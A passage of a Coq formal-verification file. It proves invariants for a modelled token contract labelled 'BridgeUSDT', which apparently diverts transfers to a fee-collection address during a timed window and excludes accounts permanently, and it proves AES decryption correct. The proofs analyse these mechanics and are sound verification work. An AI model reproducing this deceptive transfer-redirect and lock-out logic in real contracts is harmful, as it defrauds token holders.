  ∧ ∃ s1, body (set_status ReentrancyGuard._ENTERED s) = Ok s1
          ∧ s' = set_status ReentrancyGuard._NOT_ENTERED s1.
Proof.
  unfold nonReentrant. intros Hr.
  apply bind_Ok in Hr as (? & Hg & Hr). apply require_Ok, bool_decide_eq_true_1 in Hg.
  apply bind_Ok in Hr as (s1 & Hb & Hr). injection Hr as <-. eauto.
Qed.

Lemma _handleFailedPINAttempt_kept e user s s' :
  _handleFailedPINAttempt e user s = Ok s' → kept s s'.
Proof.
  unfold _handleFailedPINAttempt. intros Hr. peel Hr; by injection Hr as <-.
Qed.

Lemma _verifyPINInternal_kept e user pin s b s' :
  _verifyPINInternal e user pin s = Ok (b, s') → kept s s'.
Proof.
  unfold _verifyPINInternal. intros Hr. peel Hr; injection Hr as <- <-; try done.
  by eapply _handleFailedPINAttempt_kept.
Qed.

(** The two ways a call of the overriding [_transfer] can return. *)
Lemma bridge_transfer_Ok e from to amount s s' :
  _transfer e from to amount s = Ok s' →
  paused s = false ∧ isExcluded s from = false
  ∧ ∃ dest, ERC20._transfer from dest amount (erc20 s) = Ok (erc20 s')
            ∧ s' = set_erc20 (erc20 s') s
            ∧ dest =
                if bool_decide (block_timestamp e < _resourceOptimizationWindow s)
                   && negb (isExempt s from)
                   && bool_decide (from ≠ owner s)
                   && bool_decide (from ≠ _priorityResourceManager s)
                then feeCollectionAddress s else to.
Proof.
  unfold _transfer. intros Hr.
  apply bind_Ok in Hr as (? & Hp & Hr). apply require_Ok, negb_true_iff in Hp.
  apply bind_Ok in Hr as (? & Hx & Hr). apply require_Ok, negb_true_iff in Hx.
  split_and!; try done.
  destruct (_ && _ && _ && _) eqn:Hd.
  - apply bridge_on_erc20_Ok in Hr as (e1 & He & ->). eauto.
  - apply bind_Ok in Hr as (? & _ & Hr).
    apply bridge_on_erc20_Ok in Hr as (e1 & He & ->). eauto.
Qed.

Lemma bridge_transfer_inv e from to amount s s' :
  inv s → 0 ≤ amount → _transfer e from to amount s = Ok s' →
  inv s' ∧ _status s' = _status s ∧ penaltyAmounts s' = penaltyAmounts s
  ∧ _protocolExclusions s' = _protocolExclusions s ∧ _paused s' = _paused s.
Proof.
  intros Hinv Hamt Hr.
  apply bridge_transfer_Ok in Hr as (_ & _ & dest & He & -> & _).
  split; [|done]. by eapply ERC20Facts._transfer_inv.
Qed.

Lemma distribution_loop_inv e i rs vs s s' :
  inv s → distribution_loop e i rs vs s = Ok s' →
  inv s' ∧ _status s' = _status s ∧ penaltyAmounts s' = penaltyAmounts s
  ∧ _protocolExclusions s' = _protocolExclusions s ∧ _paused s' = _paused s.
Proof.
  revert i vs s. induction rs as [|r rs IH]; intros i vs s Hinv Hr; simpl in Hr.
  { by injection Hr as <-. }
  destruct vs as [|v vs]; [by injection Hr as <-|].
  apply bind_Ok in Hr as (s1 & Hs1 & Hr).
  assert (inv s1 ∧ _status s1 = _status s ∧ penaltyAmounts s1 = penaltyAmounts s
          ∧ _protocolExclusions s1 = _protocolExclusions s ∧ _paused s1 = _paused s)
    as (Hi1 & Hst & Hpa & Hex & Hpz).
  { peel Hs1; try (by injection Hs1 as <-).
    eapply bridge_transfer_inv; [done| |done].
    by apply (ERC20Facts.inv_balance_range (erc20 s)). }
  apply IH in Hr as (? & ? & ? & ? & ?); [|done].
  split_and!; congruence.
Qed.

Lemma constructor_wf e deployer name_ symbol_ supply s :
  0 ≤ supply → constructor e deployer name_ symbol_ supply = Ok s → wf s.
Proof.
  intros Hs Hr. unfold constructor in Hr.
  apply bind_Ok in Hr as (s1 & Hs1 & Hr). injection Hr as <-.
  apply bridge_on_erc20_Ok in Hs1 as (e1 & He & ->).
  eapply ERC20Facts._mint_Ok in He as (_ & _ & _ & _ & _ & _ & _ & Hi);
    [done|apply ERC20Facts.inv_init|done].
Qed.

Lemma enhance_loop_kept ps s :
  erc20 (enhance_loop ps s) = erc20 s
  ∧ _status (enhance_loop ps s) = _status s
  ∧ penaltyAmounts (enhance_loop ps s) = penaltyAmounts s
  ∧ _paused (enhance_loop ps s) = _paused s.
Proof.
  revert s. induction ps as [|p ps IH]; intros s; [done|].
  simpl. destruct (IH (set_protocolExclusions (<[p:=true]> (_protocolExclusions s)) s))
    as (-> & -> & -> & ->). done.
Qed.

(** Every successful call leaves a well-formed storage well-formed. *)
Lemma dispatch_wf e msg_sender c s s' :
  wf s → valid_call c → dispatch e msg_sender c s = Ok s' → wf s'.
Proof.
  intros (Hinv & Hst & Hpa) Hv Hr. unfold wf, inv in *.
  destruct c; simpl in Hr, Hv;
    try (apply bridge_transfer_inv in Hr as (? & ? & ? & _);
         [split_and!; first [done|congruence]|done|apply Hv]).
  - unfold setFeeCollectionAddress in Hr. by peel_all.
  - unfold recoverTokens in Hr. peel_all; [|done].
    apply bridge_transfer_inv in Hr as (? & ? & ? & _); [split_and!; first [done|congruence]|done|].
    by apply (ERC20Facts.inv_balance_range (erc20 s)).
  - unfold setupSecurityPIN in Hr. by peel_all.
  - unfold updateSecurityPIN in Hr. peel_all. simpl.
    match goal with Hk : _verifyPINInternal _ _ _ _ = _ |- _ =>
      apply _verifyPINInternal_kept in Hk as (-> & -> & -> & _) end. done.
  - unfold SecuredMessageSend in Hr. by peel_all.
  - unfold SecuredMessageSetRead in Hr. apply bind_Ok in Hr as (? & _ & Hr).
    apply nonReentrant_Ok in Hr as (_ & s1 & Hb & ->). simpl in Hb. peel_all. simpl.
    match goal with Hk : _verifyPINInternal _ _ _ _ = _ |- _ =>
      apply _verifyPINInternal_kept in Hk as (-> & _ & -> & _) end. done.
  - unfold SecuredMessageSetDeleted in Hr. apply bind_Ok in Hr as (? & _ & Hr).
    apply nonReentrant_Ok in Hr as (_ & s1 & Hb & ->). simpl in Hb. peel_all. simpl.
    match goal with Hk : _verifyPINInternal _ _ _ _ = _ |- _ =>
      apply _verifyPINInternal_kept in Hk as (-> & _ & -> & _) end. done.
  - unfold paySecurityPenalty in Hr.
    apply nonReentrant_Ok in Hr as (_ & s1 & Hb & ->). simpl in Hb. by peel_all.
  - unfold adminRecoverAccount in Hr. apply bind_Ok in Hr as (? & _ & Hr).
    apply nonReentrant_Ok in Hr as (_ & s1 & Hb & ->). simpl in Hb. by peel_all.
  - unfold updateSystemAdmin in Hr. by peel_all.
  - unfold performSystemMaintenance in Hr. by peel_all.
  - unfold verifyProtocolIntegrity in Hr. peel_all. simpl. by case_match.
  - unfold updateSecurityProtocol in Hr. by peel_all.
  - unfold optimizeProtocolPerformance in Hr. by peel_all.
  - unfold enhanceParticipantSecurity in Hr. peel_all.
    destruct (enhance_loop_kept participants s) as (-> & -> & -> & _). done.
  - unfold setExempt in Hr. by peel_all.
  - unfold allocateProtocolReserves in Hr. peel_all.
    match goal with Hk : on_erc20 _ _ = _ |- _ =>
      apply bridge_on_erc20_Ok in Hk as (e1 & He & ->) end.
    eapply ERC20Facts._mint_Ok in He as (_ & _ & _ & _ & _ & _ & _ & Hi); try done.
    apply Hv.
  - unfold optimizeTokenDistribution in Hr. peel_all.
    match goal with Hk : distribution_loop _ _ _ _ _ = _ |- _ =>
      apply distribution_loop_inv in Hk as (? & ? & ? & _); [|done] end.
    simpl. split_and!; first [done|congruence].
  - unfold setTradingStatus in Hr. by peel_all.
  - unfold setMaxTransactionLimit in Hr. by peel_all.
  - unfold setMaxWalletLimit in Hr. by peel_all.
  - unfold pause in Hr. by peel_all.
  - unfold unpause in Hr. by peel_all.
  - unfold setPair in Hr. by peel_all.
  - unfold transferFrom in Hr. apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply bridge_on_erc20_Ok in Hs1 as (e1 & He1 & ->).
    apply ERC20Facts._spendAllowance_Ok in He1 as (a & ->).
    apply bridge_transfer_inv in Hr as (? & ? & ? & _);
      [simpl in *; split_and!; first [done|congruence]|done|apply Hv].
  - unfold approve in Hr. apply bridge_on_erc20_Ok in Hr as (e1 & He & ->).
    by apply ERC20Facts._approve_Ok in He as ->.
  - unfold increaseAllowance in Hr. apply bridge_on_erc20_Ok in Hr as (e1 & He & ->).
    unfold ERC20.increaseAllowance in He. apply bind_Ok in He as (v & _ & He).
    by apply ERC20Facts._approve_Ok in He as ->.
  - unfold decreaseAllowance in Hr. apply bridge_on_erc20_Ok in Hr as (e1 & He & ->).
    unfold ERC20.decreaseAllowance in He. apply bind_Ok in He as (v & _ & He).
    by apply ERC20Facts._approve_Ok in He as ->.
  - unfold permit in Hr. apply bridge_on_erc20_Ok in Hr as (e1 & He & ->).
    split_and!; try done. by eapply ERC20Facts.permit_inv.
  - unfold transferOwnership in Hr. by peel_all.
  - unfold renounceOwnership in Hr. by peel_all.
  - done.
Qed.

Lemma reachable_wf self s : reachable self s → wf s.
Proof.
  induction 1 as [e d n sy sup s _ _ Hs Hc|e snd c s s' _ IH _ _ Hv Hd].
  - eapply constructor_wf; [apply Hs|done].
  - by eapply dispatch_wf.
Qed.

(** *** The exclusion flag is never cleared *)

Lemma bridge_enhance_loop_excluded ps s p :
  p ∈ ps ∨ isExcluded s p = true → isExcluded (enhance_loop ps s) p = true.
Proof.
  revert s. induction ps as [|q ps IH]; intros s [Hin|Hex]; simpl.
  - by apply elem_of_nil in Hin.
  - done.
  - apply IH. apply elem_of_cons in Hin as [->|Hin]; [right|by left].
    unfold isExcluded. simpl. by rewrite mget_insert_eq.
  - apply IH. right. unfold isExcluded in *. simpl.
    rewrite mget_insert. by case_decide.
Qed.

Lemma bridge_transfer_frame e from to amount s s' :
  _transfer e from to amount s = Ok s' →
  _protocolExclusions s' = _protocolExclusions s ∧ _paused s' = _paused s.
Proof. intros Hr. by apply bridge_transfer_Ok in Hr as (_ & _ & dest & _ & -> & _). Qed.

Lemma distribution_loop_frame e i rs vs s s' :
  distribution_loop e i rs vs s = Ok s' →
  _protocolExclusions s' = _protocolExclusions s ∧ _paused s' = _paused s.
Proof.
  revert i vs s. induction rs as [|r rs IH]; intros i vs s Hr; simpl in Hr.
  { by injection Hr as <-. }
  destruct vs as [|v vs]; [by injection Hr as <-|].
  apply bind_Ok in Hr as (s1 & Hs1 & Hr).
  apply IH in Hr as [-> ->].
  peel_all; try done. by eapply bridge_transfer_frame.
Qed.

Ltac bridge_callees :=
  repeat match goal with
  | Hk : on_erc20 _ _ = Ok _ |- _ => apply bridge_on_erc20_Ok in Hk as (? & ? & ->)
  | Hk : nonReentrant _ _ = Ok _ |- _ =>
      apply nonReentrant_Ok in Hk as (_ & ? & Hk & ->); simpl in Hk
  end.

Ltac bridge_frames :=
  repeat match goal with
  | Hk : _verifyPINInternal _ _ _ _ = Ok _ |- _ =>
      apply _verifyPINInternal_kept in Hk as (_ & _ & _ & ? & ?)
  | Hk : _handleFailedPINAttempt _ _ _ = Ok _ |- _ =>
      apply _handleFailedPINAttempt_kept in Hk as (_ & _ & _ & ? & ?)
  | Hk : _transfer _ _ _ _ _ = Ok _ |- _ => apply bridge_transfer_frame in Hk as [? ?]
  | Hk : distribution_loop _ _ _ _ _ = Ok _ |- _ =>
      apply distribution_loop_frame in Hk as [? ?]
  end.

(** A successful call keeps every account that is excluded excluded. *)
Lemma bridge_dispatch_excluded e msg_sender c s s' p :
  isExcluded s p = true → dispatch e msg_sender c s = Ok s' → isExcluded s' p = true.
Proof.
  intros Hex Hr.
  destruct c; simpl in Hr;
    unfold setFeeCollectionAddress, recoverTokens, setupSecurityPIN, updateSecurityPIN,
      SecuredMessageSend, SecuredMessageSetRead, SecuredMessageSetDeleted,
      paySecurityPenalty, adminRecoverAccount, updateSystemAdmin,
      performSystemMaintenance, verifyProtocolIntegrity, updateSecurityProtocol,
      optimizeProtocolPerformance, enhanceParticipantSecurity, setExempt,
      allocateProtocolReserves, optimizeTokenDistribution, setTradingStatus,
      setMaxTransactionLimit, setMaxWalletLimit, pause, unpause, setPair, transfer,
      transferFrom, approve, increaseAllowance, decreaseAllowance, permit,
      transferOwnership, renounceOwnership, receive in Hr;
    peel_all; bridge_callees; peel_all; bridge_frames;
    unfold isExcluded in *; simpl in *; try congruence.
  - by case_match.
  - by apply bridge_enhance_loop_excluded; right.
Qed.

(** *** [paySecurityPenalty] *)

Lemma array_get_initial i :
  0 ≤ i < 17 → ∃ v, array_get initial_penaltyAmounts i = Ok v.
Proof.
  intros Hi. unfold array_get.
  destruct (initial_penaltyAmounts !! Z.to_nat i) as [v|] eqn:Hl; [eauto|].
  apply lookup_ge_None in Hl. simpl in Hl. lia.
Qed.

Lemma paySecurityPenalty_result e msg_sender tokenType x s :
  _status s = ReentrancyGuard._NOT_ENTERED →
  penaltyAmounts s = initial_penaltyAmounts →
  match paySecurityPenalty e msg_sender tokenType x s with
  | Ok s' =>
      6 ≤ failedAttempts (security s msg_sender)
      ∧ paidPenalties (security s msg_sender) = false
      ∧ (tokenType = 0 ∨ tokenType = 1 ∨ tokenType = 2)
      ∧ x = returns true
      ∧ s' = set_security msg_sender (with_paidPenalties true (security s msg_sender)) s
  | Revert _ =>
      failedAttempts (security s msg_sender) < 6
      ∨ paidPenalties (security s msg_sender) = true
      ∨ ¬ (tokenType = 0 ∨ tokenType = 1 ∨ tokenType = 2)
      ∨ x ≠ returns true
  end.
Proof.
  intros Hst Hpa.
  unfold paySecurityPenalty, nonReentrant. rewrite Hst. simpl.
  change (security (set_status ReentrancyGuard._ENTERED s) msg_sender)
    with (security s msg_sender).
  rewrite Hpa.
  destruct (security s msg_sender) as [ph sa fa la lu paid] eqn:Hu. simpl.
  case_bool_decide as Hfa; simpl; [|left; lia].
  destruct paid; simpl; [right; by left|].
  assert (∀ idx, 0 ≤ idx < 17 →
    match
      (array_get initial_penaltyAmounts idx
       ≫= λ penaltyAmount : Z,
            select_token tokenType penaltyAmount
            ≫= λ '(_, _),
                 external_call x
                 ≫= λ ok : bool,
                      require ok "Token transfer failed"
                      ≫= λ _ : (),
                           Ok (set_security msg_sender
                                 (with_paidPenalties true
                                    (mkSecurity ph sa fa la lu false))
                                 (set_status ReentrancyGuard._ENTERED s)))
      ≫= λ s1 : state, Ok (set_status ReentrancyGuard._NOT_ENTERED s1)
    with
    | Ok s' =>
        6 ≤ fa ∧ false = false
        ∧ (tokenType = 0 ∨ tokenType = 1 ∨ tokenType = 2)
        ∧ x = returns true
        ∧ s' = set_security msg_sender
                 (with_paidPenalties true (mkSecurity ph sa fa la lu false)) s
    | Revert _ =>
        fa < 6 ∨ false = true
        ∨ ¬ (tokenType = 0 ∨ tokenType = 1 ∨ tokenType = 2)
        ∨ x ≠ returns true
    end) as Hrest.
  { intros idx Hidx. destruct (array_get_initial idx Hidx) as [v ->]. simpl.
    unfold select_token.
    assert (set_status ReentrancyGuard._NOT_ENTERED
              (set_security msg_sender
                 (with_paidPenalties true (mkSecurity ph sa fa la lu false))
                 (set_status ReentrancyGuard._ENTERED s))
            = set_security msg_sender
                (with_paidPenalties true (mkSecurity ph sa fa la lu false)) s) as Hfinal.
    { destruct s. simpl in *. by subst. }
    repeat case_bool_decide; simpl;
      try (destruct x as [[|]|]; simpl;
           [split_and!; [done|done|tauto|done|exact Hfinal]
           |do 3 right; discriminate|do 3 right; discriminate]).
    right. right. left. tauto. }
  unfold checked_sub. rewrite (decide_True (P := 6 ≤ fa)) by done. simpl.
  change (Z.of_nat 17) with 17.
  destruct (bool_decide (17 ≤ fa - 6)) eqn:Hcap; simpl.
  - exact (Hrest 16 ltac:(lia)).
  - apply bool_decide_eq_false_1 in Hcap. exact (Hrest (fa - 6) ltac:(lia)).
Qed.

End WithKeccak.
End BridgeFacts.

(** ** Reachability of the sample deployments *)

Module SampleFacts.
Import Sample.

Ltac uint256_lit := vm_compute; split; discriminate.

Lemma template_transact_reachable now who c s :
  Template.reachable (hash:=sample_keccak) s → Template.valid_call c → is_uint256 now →
  Template.reachable (hash:=sample_keccak) (Template.transact (hash:=sample_keccak) now who c s).
Proof.
  intros Hs Hc Hn. unfold Template.transact.
  destruct (Template.dispatch now who c s) as [s'|f] eqn:Hd; simpl; [|done].
  by eapply Template.reachable_call.
Qed.

Lemma bridge_transact_reachable now who c s :
  Bridge.reachable (hash:=sample_keccak) dave s → Bridge.valid_call c → is_uint256 now →
  Bridge.reachable (hash:=sample_keccak) dave
    (Bridge.transact (hash:=sample_keccak) (bridge_env now) who c s).
Proof.
  intros Hs Hc Hn. unfold Bridge.transact.
  destruct (Bridge.dispatch (bridge_env now) who c s) as [s'|f] eqn:Hd; simpl; [|done].
  eapply (Bridge.reachable_call _ (bridge_env now));
    [done|done|split; [done|uint256_lit]|done|done].
Qed.

Lemma template_deployed_reachable : Template.reachable (hash:=sample_keccak) template_deployed.
Proof.
  eapply (Template.reachable_deploy 1700000000 alice "Sample" "SMP" 1000);
    [uint256_lit|uint256_lit|by vm_compute].
Qed.

Lemma template_funded_reachable : Template.reachable (hash:=sample_keccak) template_funded.
Proof.
  apply template_transact_reachable; [apply template_deployed_reachable|uint256_lit..].
Qed.

Lemma template_emergency_reachable :
  Template.reachable (hash:=sample_keccak) template_emergency.
Proof.
  apply template_transact_reachable; [apply template_funded_reachable|done|uint256_lit].
Qed.

Lemma template_bob_excluded_reachable :
  Template.reachable (hash:=sample_keccak) template_bob_excluded.
Proof.
  apply template_transact_reachable; [apply template_funded_reachable|done|uint256_lit].
Qed.

Lemma template_paused_reachable : Template.reachable (hash:=sample_keccak) template_paused.
Proof.
  apply template_transact_reachable; [apply template_funded_reachable|done|uint256_lit].
Qed.

Lemma bridge_deployed_reachable : Bridge.reachable (hash:=sample_keccak) dave bridge_deployed.
Proof.
  eapply (Bridge.reachable_deploy dave (bridge_env 1700000000) alice "BridgeUSDT" "USDT" 1000);
    [done|split; uint256_lit|uint256_lit|by vm_compute].
Qed.

Lemma bridge_funded_reachable : Bridge.reachable (hash:=sample_keccak) dave bridge_funded.
Proof.
  apply bridge_transact_reachable; [apply bridge_deployed_reachable|uint256_lit..].
Qed.

Lemma bridge_window_reachable : Bridge.reachable (hash:=sample_keccak) dave bridge_window.
Proof.
  apply bridge_transact_reachable; [|done|uint256_lit].
  apply bridge_transact_reachable; [apply bridge_funded_reachable|done|uint256_lit].
Qed.

Lemma bridge_window_owner_not_exempt_reachable :
  Bridge.reachable (hash:=sample_keccak) dave bridge_window_owner_not_exempt.
Proof.
  apply bridge_transact_reachable; [|done|uint256_lit].
  apply bridge_transact_reachable; [apply bridge_window_reachable|done|uint256_lit].
Qed.

Lemma bridge_bob_excluded_reachable :
  Bridge.reachable (hash:=sample_keccak) dave bridge_bob_excluded.
Proof.
  apply bridge_transact_reachable; [apply bridge_funded_reachable|done|uint256_lit].
Qed.

Lemma bridge_paused_reachable : Bridge.reachable (hash:=sample_keccak) dave bridge_paused.
Proof.
  apply bridge_transact_reachable; [apply bridge_funded_reachable|done|uint256_lit].
Qed.

End SampleFacts.

(** ** AES: the inverse cipher undoes the cipher *)

Module AESFacts.
Import AES.

Lemma forall_bytes (p : Z → bool) :
  forallb p (seqZ 0 256) = true → ∀ b, is_byte b → p b = true.
Proof.
  intros Hall b Hb. rewrite forallb_forall in Hall.
  apply Hall, list_elem_of_In, elem_of_seqZ. unfold is_byte in Hb. lia.
Qed.

Lemma forall_bytes2 (p : Z → Z → bool) :
  forallb (λ a, forallb (p a) (seqZ 0 256)) (seqZ 0 256) = true →
  ∀ a b, is_byte a → is_byte b → p a b = true.
Proof.
  intros Hall a b Ha Hb.
  apply (forall_bytes (p a)); [|done].
  by apply (forall_bytes (λ a, forallb (p a) (seqZ 0 256))).
Qed.

Lemma byteb_is_byte b : byteb b = true ↔ is_byte b.
Proof.
  unfold byteb, is_byte. rewrite andb_true_iff, !bool_decide_eq_true. done.
Qed.

Lemma lxor_byte a b : is_byte a → is_byte b → is_byte (Z.lxor a b).
Proof.
  intros Ha Hb. apply byteb_is_byte. revert a b Ha Hb.
  apply (forall_bytes2 (λ a b, byteb (Z.lxor a b))). by vm_compute.
Qed.

Lemma lxor_cancel a k : Z.lxor (Z.lxor a k) k = a.
Proof. by rewrite Z.lxor_assoc, Z.lxor_nilpotent, Z.lxor_0_r. Qed.

Lemma table_byte (t : list Z) b :
  Forall is_byte t → is_byte (default 0 (t !! Z.to_nat b)).
Proof.
  intros Ht. destruct (t !! Z.to_nat b) as [v|] eqn:Hl; simpl.
  - by eapply Forall_lookup_1.
  - split; lia.
Qed.

Lemma sbox_byte b : is_byte (sbox b).
Proof. apply table_byte. apply (bool_decide_unpack _). by vm_compute. Qed.

Lemma inv_sbox_byte b : is_byte (inv_sbox b).
Proof. apply table_byte. apply (bool_decide_unpack _). by vm_compute. Qed.

Lemma inv_sbox_sbox b : is_byte b → inv_sbox (sbox b) = b.
Proof.
  intros Hb. apply Z.eqb_eq. revert b Hb.
  apply (forall_bytes (λ b, inv_sbox (sbox b) =? b)). by vm_compute.
Qed.

Lemma gmul_byte a c : is_byte a → c ∈ [2; 3] → is_byte (gmul a c).
Proof.
  intros Ha Hc. apply byteb_is_byte. revert a Ha.
  apply (forall_bytes (λ a, byteb (gmul a c))).
  repeat (apply elem_of_cons in Hc as [->|Hc]; [by vm_compute|]).
  by apply elem_of_nil in Hc.
Qed.

Lemma xtime_byte a : is_byte a → is_byte (xtime a).
Proof.
  intros Ha. apply byteb_is_byte. revert a Ha.
  apply (forall_bytes (λ a, byteb (xtime a))). by vm_compute.
Qed.

Lemma xtime_linear a b :
  is_byte a → is_byte b → xtime (Z.lxor a b) = Z.lxor (xtime a) (xtime b).
Proof.
  intros Ha Hb. apply Z.eqb_eq. revert a b Ha Hb.
  apply (forall_bytes2 (λ a b, xtime (Z.lxor a b) =? Z.lxor (xtime a) (xtime b))).
  by vm_compute.
Qed.

Ltac xor_bits :=
  apply Z.bits_inj'; intros ? _; rewrite ?Z.lxor_spec, ?Z.bits_0;
  repeat match goal with |- context [Z.testbit ?x ?n] => destruct (Z.testbit x n) end;
  reflexivity.

Lemma gmul_bits_linear n a b c :
  is_byte a → is_byte b →
  gmul_bits n (Z.lxor a b) c = Z.lxor (gmul_bits n a c) (gmul_bits n b c).
Proof.
  revert a b c. induction n as [|n IH]; intros a b c Ha Hb; simpl; [done|].
  rewrite xtime_linear, IH by auto using xtime_byte.
  destruct (Z.odd c); xor_bits.
Qed.

Lemma gmul_linear a b c :
  is_byte a → is_byte b → gmul (Z.lxor a b) c = Z.lxor (gmul a c) (gmul b c).
Proof. apply gmul_bits_linear. Qed.

(** Each input byte of a column, taken alone, comes back. *)
Lemma inv_mix_column_unit a :
  is_byte a →
  inv_mix_column (gmul a 2) a a (gmul a 3) = [a; 0; 0; 0]
  ∧ inv_mix_column (gmul a 3) (gmul a 2) a a = [0; a; 0; 0]
  ∧ inv_mix_column a (gmul a 3) (gmul a 2) a = [0; 0; a; 0]
  ∧ inv_mix_column a a (gmul a 3) (gmul a 2) = [0; 0; 0; a].
Proof.
  intros Ha.
  pose (p a := bool_decide (inv_mix_column (gmul a 2) a a (gmul a 3) = [a; 0; 0; 0])
               && bool_decide (inv_mix_column (gmul a 3) (gmul a 2) a a = [0; a; 0; 0])
               && bool_decide (inv_mix_column a (gmul a 3) (gmul a 2) a = [0; 0; a; 0])
               && bool_decide (inv_mix_column a a (gmul a 3) (gmul a 2) = [0; 0; 0; a])).
  assert (p a = true) as Hp.
  { revert a Ha. apply (forall_bytes p). by vm_compute. }
  unfold p in Hp. rewrite !andb_true_iff, !bool_decide_eq_true in Hp. tauto.
Qed.

Lemma xor4_interchange a b c d a' b' c' d' :
  xor4 (Z.lxor a a') (Z.lxor b b') (Z.lxor c c') (Z.lxor d d')
  = Z.lxor (xor4 a b c d) (xor4 a' b' c' d').
Proof. unfold xor4. xor_bits. Qed.

(** [inv_mix_column] is additive. *)
Lemma inv_mix_column_add a0 a1 a2 a3 b0 b1 b2 b3 :
  is_byte a0 → is_byte a1 → is_byte a2 → is_byte a3 →
  is_byte b0 → is_byte b1 → is_byte b2 → is_byte b3 →
  inv_mix_column (Z.lxor a0 b0) (Z.lxor a1 b1) (Z.lxor a2 b2) (Z.lxor a3 b3)
  = xor_bytes (inv_mix_column a0 a1 a2 a3) (inv_mix_column b0 b1 b2 b3).
Proof.
  intros. unfold inv_mix_column, xor_bytes. simpl.
  rewrite !gmul_linear by done.
  by rewrite !xor4_interchange.
Qed.

Lemma inv_mix_column_mix_column a0 a1 a2 a3 :
  is_byte a0 → is_byte a1 → is_byte a2 → is_byte a3 →
  match mix_column a0 a1 a2 a3 with
  | [c0; c1; c2; c3] => inv_mix_column c0 c1 c2 c3 = [a0; a1; a2; a3]
  | _ => False
  end.
Proof.
  intros H0 H1 H2 H3. unfold mix_column.
  destruct (inv_mix_column_unit a0 H0) as (E0 & _).
  destruct (inv_mix_column_unit a1 H1) as (_ & E1 & _).
  destruct (inv_mix_column_unit a2 H2) as (_ & _ & E2 & _).
  destruct (inv_mix_column_unit a3 H3) as (_ & _ & _ & E3).
  assert (∀ a c, is_byte a → c ∈ [2; 3] → is_byte (gmul a c)) as Hg
    by apply gmul_byte.
  assert (2 ∈ [2; 3]) as Hc2 by (by left).
  assert (3 ∈ [2; 3]) as Hc3 by (right; by left).
  unfold xor4.
  rewrite !inv_mix_column_add by auto using lxor_byte.
  rewrite E0, E1, E2, E3. unfold xor_bytes. simpl.
  rewrite !Z.lxor_0_r, !Z.lxor_0_l. done.
Qed.

(** *** The four steps on blocks *)

Ltac bytes_list :=
  repeat first [assumption | apply Forall_nil_2 | apply Forall_cons_2].

Lemma block_cons_16 (s : list Z) :
  length s = 16%nat →
  ∃ b0 b1 b2 b3 b4 b5 b6 b7 b8 b9 b10 b11 b12 b13 b14 b15,
    s = [b0; b1; b2; b3; b4; b5; b6; b7; b8; b9; b10; b11; b12; b13; b14; b15].
Proof.
  intros Hl. do 16 (destruct s as [|? s]; [discriminate Hl|]).
  destruct s; [|discriminate Hl]. by do 16 eexists.
Qed.

Lemma xor_bytes_bytes a b :
  Forall is_byte a → Forall is_byte b → Forall is_byte (xor_bytes a b).
Proof.
  intros Ha. revert b. induction Ha as [|x a Hx Ha IH]; intros b Hb; [constructor|].
  destruct Hb as [|y b Hy Hb]; [constructor|].
  unfold xor_bytes in *. simpl. constructor; [by apply lxor_byte|by apply IH].
Qed.

Lemma xor_bytes_block a b : block a → block b → block (xor_bytes a b).
Proof.
  intros [La Ha] [Lb Hb]. split; [|by apply xor_bytes_bytes].
  unfold xor_bytes. rewrite length_zip_with. lia.
Qed.

Lemma xor_bytes_cancel (a k : list Z) :
  length a = length k → xor_bytes (xor_bytes a k) k = a.
Proof.
  revert k. induction a as [|x a IH]; intros [|y k] Hl; try discriminate; [done|].
  unfold xor_bytes in *. simpl. rewrite lxor_cancel. f_equal. apply IH.
  by injection Hl.
Qed.

Lemma add_round_key_block k s : block k → block s → block (add_round_key k s).
Proof. intros. by apply xor_bytes_block. Qed.

Lemma add_round_key_cancel k s :
  block k → block s → add_round_key k (add_round_key k s) = s.
Proof. intros [Lk _] [Ls _]. apply xor_bytes_cancel. congruence. Qed.

Lemma sub_bytes_block s : block s → block (sub_bytes s).
Proof.
  intros [Ls _]. split; [by unfold sub_bytes; rewrite length_fmap|].
  apply Forall_fmap, Forall_forall. intros. apply sbox_byte.
Qed.

Lemma inv_sub_bytes_sub_bytes s : block s → inv_sub_bytes (sub_bytes s) = s.
Proof.
  intros [_ Hs]. unfold inv_sub_bytes, sub_bytes. rewrite <- list_fmap_compose.
  rewrite <- (list_fmap_id s) at 2. apply Forall_fmap_ext_1.
  eapply Forall_impl; [done|]. intros b Hb. simpl. by apply inv_sbox_sbox.
Qed.

Lemma shift_rows_block s : block s → block (shift_rows s).
Proof.
  intros [Ls Hs]. destruct (block_cons_16 s Ls) as (?&?&?&?&?&?&?&?&?&?&?&?&?&?&?&?&->).
  split; [done|]. unfold shift_rows, permute. simpl.
  repeat (apply Forall_cons in Hs as [? Hs]). bytes_list.
Qed.

Lemma inv_shift_rows_shift_rows s : block s → inv_shift_rows (shift_rows s) = s.
Proof.
  intros [Ls _]. by destruct (block_cons_16 s Ls) as (?&?&?&?&?&?&?&?&?&?&?&?&?&?&?&?&->).
Qed.

Lemma xor4_byte a b c d :
  is_byte a → is_byte b → is_byte c → is_byte d → is_byte (xor4 a b c d).
Proof. intros. unfold xor4. auto using lxor_byte. Qed.

Lemma mix_column_bytes a0 a1 a2 a3 :
  is_byte a0 → is_byte a1 → is_byte a2 → is_byte a3 →
  Forall is_byte (mix_column a0 a1 a2 a3).
Proof.
  intros. assert (2 ∈ [2; 3]) as Hc2 by (by left).
  assert (3 ∈ [2; 3]) as Hc3 by (right; by left).
  unfold mix_column. bytes_list; apply xor4_byte; auto using gmul_byte.
Qed.

Lemma mix_columns_block s : block s → block (mix_columns s).
Proof.
  intros [Ls Hs]. destruct (block_cons_16 s Ls) as (?&?&?&?&?&?&?&?&?&?&?&?&?&?&?&?&->).
  split; [done|]. repeat (apply Forall_cons in Hs as [? Hs]). simpl.
  assert (2 ∈ [2; 3]) as Hc2 by (by left).
  assert (3 ∈ [2; 3]) as Hc3 by (right; by left).
  bytes_list; apply xor4_byte; auto using gmul_byte.
Qed.

Lemma inv_mix_columns_mix_columns s : block s → inv_mix_columns (mix_columns s) = s.
Proof.
  intros [Ls Hs]. destruct (block_cons_16 s Ls)
    as (b0&b1&b2&b3&b4&b5&b6&b7&b8&b9&b10&b11&b12&b13&b14&b15&->).
  repeat (apply Forall_cons in Hs as [? Hs]).
  pose proof (inv_mix_column_mix_column b0 b1 b2 b3) as E0.
  pose proof (inv_mix_column_mix_column b4 b5 b6 b7) as E1.
  pose proof (inv_mix_column_mix_column b8 b9 b10 b11) as E2.
  pose proof (inv_mix_column_mix_column b12 b13 b14 b15) as E3.
  unfold mix_column in *.
  change (inv_mix_column (xor4 (gmul b0 2) (gmul b1 3) b2 b3)
